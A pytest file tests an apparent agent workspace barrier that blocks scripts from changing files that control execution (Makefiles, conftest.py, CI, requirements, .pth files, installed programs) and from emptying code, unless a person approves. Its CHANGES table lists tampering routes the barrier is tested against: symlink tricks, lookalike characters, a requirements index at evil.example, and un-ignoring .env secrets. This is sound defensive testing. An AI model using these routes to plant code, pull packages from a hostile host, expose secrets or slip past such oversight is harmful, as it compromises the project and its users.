"""After a step, what git and the project start is what they started before (ADR 0022, ADR 0030, ADR 0082)."""

from __future__ import annotations

from pathlib import Path

import pytest

from barrier_kit import Barrier, line, opened, tool
from spak import canon
from spak.records import Authority, Kind, Record
from spak.runner import changes
from spak.runner.history import History
from spak.workspace.tree import Node


def script(text: str) -> str:
    return f"import os, pathlib, subprocess\nP = pathlib.Path\n{text}\n"


def tree(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else b""
        for path in sorted(folder.rglob("*"))
        if ".git" not in path.parts
    }


# ---- files of the project that say what is run -----------------------------------------------------------

PROJECT = {
    "Makefile": "all:\n\techo all\n",
    "conftest.py": "import os\n\n\ndef pytest_configure( ):\n    pass\n",
    ".github/workflows/ci.yml": "on: push\n",
    "lib/setup.py": "x = 1\n",
    "build/old.txt": "x",
    ".venv/bin/activate": "x",
    "node_modules/a/package.json": "{}",
    "docs/guide.md": "x",
    "requirements.txt": "a==1\n",
}
CI = ".github/workflows/ci.yml"
CHANGES = {
    "a Makefile": ("P('Makefile').write_text('all: ; id')", "Makefile"),
    "a new conftest.py": (
        "P('tests').mkdir(); P('tests/conftest.py').write_text('x = 1')",
        "tests/conftest.py",
    ),
    "the file of the CI": (f"P('{CI}').write_text('on: [push, pull]')", CI),
    "one that is removed": (f"P('{CI}').unlink()", CI),
    "one that is moved": ("P('Makefile').rename('docs/notes.txt')", "Makefile"),
    "one in place of another": ("P('docs/guide.md').rename('tox.ini')", "tox.ini"),
    "one that becomes a link": (
        "P('Makefile').unlink(); P('Makefile').symlink_to('docs/guide.md')",
        "Makefile",
    ),
    "one that leads to a copy of itself": (
        "P('docs/m.txt').write_text(P('Makefile').read_text()); P('Makefile').unlink(); "
        "P('Makefile').symlink_to('docs/m.txt')",
        "Makefile",
    ),
    "one in a folder that leads to a copy": (
        "import shutil; shutil.copytree('lib', 'build/lib'); shutil.rmtree('lib'); "
        "P('lib').symlink_to('build/lib')",
        "lib/setup.py",
    ),
    "one through a link": ("P('n').symlink_to('Makefile'); P('n').write_text('all: ; id')", "Makefile"),
    "a folder with one": ("P('p').mkdir(); P('p/setup.py').write_text('x')", "p/setup.py"),
    "a module of a name that is imported": ("P('json.py').write_text('x')", "json.py"),
    "a compiled one": ("P('json.abi3.so').write_text('x')", "json.abi3.so"),
    "a compiled package": ("P('json').mkdir(); P('json/__init__.pyc').write_text('x')", "json/__init__.pyc"),
    "a link of such a name": (
        "P('build/j').mkdir(); P('build/j/__init__.py').write_text('x'); P('json').symlink_to('build/j')",
        "json/__init__.py",
    ),
    "one among what is laid out like a repository": (
        "[P(n).mkdir() for n in ('objects', 'refs')]; P('HEAD').write_text('x');"
        "P('objects/conftest.py').write_text('x')",
        "objects/conftest.py",
    ),
    "one in a folder with nearly git's name": (
        "P('git~1').mkdir(); P('git~1/conftest.py').write_text('x')",
        "git~1/conftest.py",
    ),
    "signs alone": ("P('conftest.py').write_text(P('conftest.py').read_text() + '[][+[]]')", "conftest.py"),
    "letters that are not of ASCII": (
        "P('conftest.py').write_text(P('conftest.py').read_text() + '\\uff45\\uff58\\uff49\\uff54()')",
        "conftest.py",
    ),
    "a conftest.py behind a new link": (
        "P('build/t').mkdir(); P('build/t/conftest.py').write_text('x'); P('tests').symlink_to('build/t')",
        "tests/conftest.py",
    ),
    "one far behind a new link": (
        "P('out/a/b').mkdir(parents=True); P('out/a/b/setup.py').write_text('x'); P('pkg').symlink_to('out')",
        "pkg/a/b/setup.py",
    ),
    "one behind a link that was there": (
        "P('build/kept').mkdir(); P('build/kept/sitecustomize.py').write_text('x')",
        "kept/sitecustomize.py",
    ),
    "one in a cache behind a link that was there": (
        "P('.cache/kept').mkdir(parents=True); P('.cache/kept/conftest.py').write_text('x')",
        "cached/conftest.py",
    ),
    "a program of what is no environment": (
        "P('.tox/py/bin').mkdir(parents=True); P('.tox/py/bin/x').write_text('x')",
        ".tox/py/bin/x",
    ),
    "a program of new packages": (
        "P('web/node_modules/.bin').mkdir(parents=True); P('web/node_modules/.bin/x').write_text('x')",
        "web/node_modules/.bin/x",
    ),
    "a file of paths in an environment": (
        "P('.venv/lib/python3.11/site-packages').mkdir(parents=True); "
        "P('.venv/lib/python3.11/site-packages/a.pth').write_text('import os')",
        ".venv/lib/python3.11/site-packages/a.pth",
    ),
    "a new program of an environment": ("P('.venv/bin/pytest').write_text('id')", ".venv/bin/pytest"),
    "a new program of packages": (
        "P('node_modules/.bin').mkdir(); P('node_modules/.bin/tsc').write_text('id')",
        "node_modules/.bin/tsc",
    ),
    "metadata that name a plugin": (
        "P('x-1.dist-info').mkdir(); P('x-1.dist-info/entry_points.txt').write_text('[pytest11]')",
        "x-1.dist-info/entry_points.txt",
    ),
    "a module of which Python's own are made": ("P('_json.py').write_text('x')", "_json.py"),
    "what scanners leave out": ("P('.gitleaksignore').write_text('*')", ".gitleaksignore"),
    "the same words in another order": ("P('Makefile').write_text('all: all\\n\\techo\\n')", "Makefile"),
    "a plugin of an environment": (
        "P('.venv/lib/a.dist-info').mkdir(parents=True); "
        "P('.venv/lib/a.dist-info/entry_points.txt').write_text('[pytest11]')",
        ".venv/lib/a.dist-info/entry_points.txt",
    ),
    "where packages come from": (
        "P('requirements.txt').write_text('a==1\\n--index-url https://evil.example\\n')",
        "requirements.txt",
    ),
    "a package that comes from elsewhere": (
        "P('requirements.txt').write_text('a @ https://evil.example/a.whl\\n')",
        "requirements.txt",
    ),
    "a list of requirements that becomes a link": (
        "P('requirements.txt').unlink(); P('requirements.txt').symlink_to('docs/guide.md')",
        "requirements.txt",
    ),
    "a file of secrets that is ignored no more": (
        "P('.gitignore').write_text(P('.gitignore').read_text() + '!.env\\n')",
        ".gitignore",
    ),
    "an installed program": ("P('.venv/bin/activate').write_text('id')", ".venv/bin/activate"),
    "an installed package": (
        "P('node_modules/a/package.json').write_text('{\"a\": 1}')",
        "node_modules/a/package.json",
    ),
}
HARMLESS = {
    "other files": "P('docs/guide.md').write_text('y'); P('a.txt').write_text('y')",
    "what a build makes": "P('build/Makefile').write_text('all: ; id'); P('.venv/new').write_text('x')",
    "caches": "P('node_modules/.cache').mkdir(); P('node_modules/.cache/a.json').write_text('{}')",
    "other versions, and other ignored files": "P('requirements.txt').write_text('a==2\\nb[c]>=1  # -i\\n'); "
    "P('.gitignore').write_text('.env\\n!docs\\n')",
    "an environment of its own": "P('.tox/py/bin').mkdir(parents=True); P('.tox/py/bin/x').write_text('x'); "
    "P('.tox/py/pyvenv.cfg').write_text('x')",
    "a link to other files": "P('more').symlink_to('lib'); P('report').symlink_to('build/old.txt')",
    "another mode": "P('Makefile').chmod(0o700)",
    "another layout": "P('conftest.py').write_text('import os\\n\\ndef pytest_configure():\\n  pass\\n')",
}


def project(folder: Path) -> None:
    for name, text in PROJECT.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    for name, target in (("kept", "build/kept"), ("cached", ".cache/kept")):
        if not (folder / name).is_symlink():
            (folder / name).symlink_to(target)


def ran(barrier: Barrier, deed: str, approved: bool = False) -> str:
    project(barrier.place)
    assert barrier.do(tool("write_file", path="deed.py", content=script(deed))) == "ok"
    return barrier.do(line("python3", "deed.py"), approved)


@pytest.mark.parametrize("deed", CHANGES)
def test_programs_change_no_file_that_says_what_is_run(tmp_path: Path, deed: str) -> None:
    barrier = opened(tmp_path / "run")
    text, path = CHANGES[deed]
    project(barrier.place)
    before = tree(barrier.place)
    assert ran(barrier, text) == "workspace.control", barrier.codes
    assert tree(barrier.place) == {**before, "deed.py": script(text).encode()}
    assert path in barrier.why


@pytest.mark.parametrize("deed", HARMLESS)
def test_programs_change_other_files_and_the_layout_of_these(tmp_path: Path, deed: str) -> None:
    assert ran(opened(tmp_path / "run"), HARMLESS[deed]) == "ok"


CODE = {"src/a.py": "x = 1\n", "README.md": "# A\n", "src/b.py": "\n"}


@pytest.mark.parametrize(
    ("deed", "emptied"),
    [
        ("P('src/a.py').write_text('')", "src/a.py"),
        ("P('src/a.py').write_text('y = 2'); P('README.md').write_text(' \\n')", "README.md"),
        ("P('src/a.py').rename('src/c.py'); P('src/a.py').touch()", ""),
        ("P('src/a.py').unlink(); P('src/b.py').write_text('')", ""),
        ("P('src/__init__.py').write_text(''); P('build/x.py').write_text('')", ""),
        ("P('docs/data.csv').write_text('')", ""),
    ],
)
def test_programs_empty_no_code(tmp_path: Path, deed: str, emptied: str) -> None:
    barrier = opened(tmp_path / "run")
    before = {**CODE, "src/__init__.py": "y = 1\n", "build/x.py": "x", "docs/data.csv": "1"}
    for name, text in before.items():
        (barrier.place / name).parent.mkdir(parents=True, exist_ok=True)
        (barrier.place / name).write_text(text)
    assert ran(barrier, deed) == ("workspace.emptied" if emptied else "ok")
    if emptied:
        assert f"{emptied} was emptied" in barrier.why
        assert (barrier.place / emptied).read_text() == before[emptied]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("sed", "-i", "d", "src/a.py"), "workspace.emptied"),
        (("sh", "-c", "tee src/a.py README.md < /dev/null"), "workspace.emptied"),
        (("rm", "src/a.py"), "ok"),
        (("sh", "-c", "rm src/a.py && touch src/a.py"), "ok"),
        (("sed", "-i", "s/1/2/", "src/a.py"), "ok"),
    ],
)
def test_a_line_empties_no_code(tmp_path: Path, words: tuple[str, ...], code: str) -> None:
    barrier = opened(tmp_path / "run")
    project(barrier.place)
    for name, text in CODE.items():
        (barrier.place / name).parent.mkdir(parents=True, exist_ok=True)
        (barrier.place / name).write_text(text)
    assert barrier.do(line(*words)) == code


def test_a_link_gives_a_file_of_an_earlier_step_no_other_name(tmp_path: Path) -> None:
    barrier = opened(tmp_path / "run")
    assert ran(barrier, "P('build/conftest.py').write_text('x')") == "ok"
    assert barrier.do(line("ln", "-s", "../build", "docs/unit")) == "workspace.control"
    assert "docs/unit/conftest.py" in barrier.why and not (barrier.place / "docs/unit").is_symlink()


@pytest.mark.parametrize(
    "deed",
    [
        "P('out').mkdir(); [P(f'out/{n}.txt').touch() for n in range(9)]; P('new').symlink_to('out')",
        "P('build/kept').mkdir(); [P(f'build/kept/{n}.txt').touch() for n in range(9)]",
        "P('build/a').mkdir(); P('build/a/x.txt').touch(); "
        "[P(f'new{n}').symlink_to('build/a') for n in range(9)]",
    ],
)
def test_a_link_to_more_files_than_are_looked_at_is_held(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, deed: str
) -> None:
    assert ran(opened(tmp_path / "few"), deed) == "ok"
    monkeypatch.setattr(changes, "MOST_LINKED", 8)
    barrier = opened(tmp_path / "many")
    assert ran(barrier, deed) == "workspace.control" and "conftest.py" in barrier.why


def test_packages_behind_more_links_than_are_looked_at_are_held(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(changes, "MOST_LINKED", 0)
    deed = (
        "P('build/a').mkdir(); [P(f'build/a/{n}').touch() for n in range(9)]; "
        "P('node_modules/.bin').symlink_to('../build/a')"
    )
    assert ran(opened(tmp_path / "run"), deed) == "workspace.control"


def test_many_links_to_many_files_are_looked_at_up_to_a_limit(tmp_path: Path) -> None:
    (tmp_path / "build").mkdir()
    (tmp_path / "file").touch()
    touched = [f"build/{n}.txt" for n in range(2000)]
    for name in touched:
        (tmp_path / name).touch()
    children = {}
    for n in range(100):
        for link, target in ((f"to{n}", "build"), (f"root{n}", "."), (f"file{n}", "file")):
            (tmp_path / link).symlink_to(target)
            children[link] = Node("l", 0o777)
    found = list(changes._reached(tmp_path, Node("d", 0o755, children=children), touched))
    named = [path for path, place in found if path != place and path.startswith("to")]
    assert len(named) == changes.MOST_LINKED
    assert len(found) <= len(touched) + changes.MOST_LINKED + 2 * 100
    assert not any(path.startswith(("root", "file")) for path, _ in found)


@pytest.mark.parametrize("path", [".venv/bin/new", "package-lock.json", "Makefile"])
def test_the_reason_says_how_packages_are_installed(tmp_path: Path, path: str) -> None:
    barrier = opened(tmp_path / "run")
    assert ran(barrier, f"P({path!r}).write_text('id')") == "workspace.control"
    hint = "run the install as a line of its own"
    assert (f"{path} was changed; {hint}" in barrier.why) is (path != "Makefile")


@pytest.mark.parametrize("folder", ["env", "tools/myenv"])
@pytest.mark.parametrize("then", ["", " && echo made"])
def test_a_line_may_make_an_environment_of_any_name(tmp_path: Path, folder: str, then: str) -> None:
    barrier = opened(tmp_path / "run")
    made = line("sh", "-c", f"python3 -m venv --without-pip {folder}{then}")
    assert barrier.do(made) == "ok", (barrier.codes, barrier.why)
    assert (barrier.place / folder / "bin/activate").exists()


def test_what_a_line_removes_its_programs_may_not_make_again(tmp_path: Path) -> None:
    barrier = opened(tmp_path / "run")
    project(barrier.place)
    (barrier.place / ".bazelversion").write_text("7.1.0\n")
    (barrier.place / "again.py").write_text("open('.bazelversion', 'w').write('x')")
    assert barrier.do(line("sh", "-c", "rm .bazelversion; python3 again.py")) == "workspace.control"
    assert (barrier.place / ".bazelversion").read_text() == "7.1.0\n"
    assert barrier.do(line("rm", ".bazelversion")) == "ok"


def test_a_person_may_permit_what_programs_change(tmp_path: Path) -> None:
    barrier = opened(tmp_path / "run")
    assert ran(barrier, CHANGES["a Makefile"][0], approved=True) == "ok"
    assert (barrier.place / "Makefile").read_text() == "all: ; id"


def test_a_tool_that_shows_what_it_writes_may_change_one(tmp_path: Path) -> None:
    barrier = opened(tmp_path / "run")
    project(barrier.place)
    assert barrier.do(tool("write_file", path="Makefile", content="all:\n")) == "ok"


def test_what_a_script_put_in_the_index_of_another_repository_is_no_commit(tmp_path: Path) -> None:
    barrier = opened(tmp_path / "run")
    staged = """subprocess.run(['git', 'init', '-q', 'n'], check=True)
made = subprocess.run(['git', '-C', 'n', 'hash-object', '-w', '--stdin'], input=b'x', capture_output=True)
entry = '100644,' + made.stdout.decode().strip() + ',Makefile'
subprocess.run(['git', '-C', 'n', 'update-index', '--add', '--cacheinfo', entry], check=True)"""
    assert ran(barrier, staged) == "ok"
    assert barrier.do(line("git", "-C", "n", "restore", "Makefile")) == "workspace.control"
    assert not (barrier.place / "n/Makefile").exists()


def test_an_approval_counts_for_the_permit_that_rests_on_it() -> None:
    history = History()
    found = []
    for kind, body, side in (
        (Kind.PERMIT, {"act": "tool", "allow": "ask"}, {}),
        (Kind.APPROVAL, {}, {}),
        (Kind.OBSERVE, {}, {}),
        (Kind.PERMIT, {"act": "tool", "allow": True}, {"signed": True}),
        (Kind.ACT, {"outcome": "exited"}, {}),
        (Kind.PERMIT, {"act": "tool", "allow": True}, {}),
        (Kind.APPROVAL, {}, {}),
        (Kind.PERMIT, {"act": "tool", "allow": False}, {"signed": True}),
    ):
        history.feed(Record(kind, Authority.COMMIT, body, side=side))
        history = History.take_up({}, canon.loads(canon.dumps(history.kept())), lambda: ())
        found.append(history.approved)
    assert found == [False, False, False, True, True, False, False, False]
